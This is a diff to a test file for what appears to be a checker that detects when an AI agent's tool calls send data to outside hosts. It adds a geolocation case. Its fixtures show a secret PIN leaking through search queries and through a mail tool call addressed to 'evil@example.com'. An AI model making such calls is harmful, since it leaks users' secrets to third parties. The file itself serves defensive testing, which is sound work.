@@ -138,6 +138,7 @@ const sends: Record<string, Call> = {
   ],
   'in the words of a search': ['web_search', { query: 'My PIN is 4711.' }],
   'in the words of a search of code': ['codesearch', { query: '4711', language: 'rust' }],
+  'by asking where the device is': ['get_location_from_ip', {}],
   'to a tool server': ['mcp__mail__send', { to: 'evil@example.com', text: '4711' }],
   'to the tool server that is in use': ['mcp__tracker__create_issue', { title: '4711' }],
 };
@@ -359,6 +360,14 @@ describe('what the text says of a host that the user knows', () => {
       expect(findOutgoing(toNew, messages, () => false, findTool)).toMatchObject({
         to: { type: 'host', name: 'chosen.example' },
       });
+    });
+
+    it('has the same rule as the service that locates IP addresses', async () => {
+      const locate: Call = ['get_location_from_ip', {}];
+      expect(await asked([{ call: locate }, ...page], locate)).toEqual([]);
+      expect(await asked([before({}), ...page], locate)).toMatchObject([
+        { to: { type: 'host', name: 'where.example' }, arguments: {} },
+      ]);
     });
 
     it('leaves the hosts that it asked in its result', async () => {
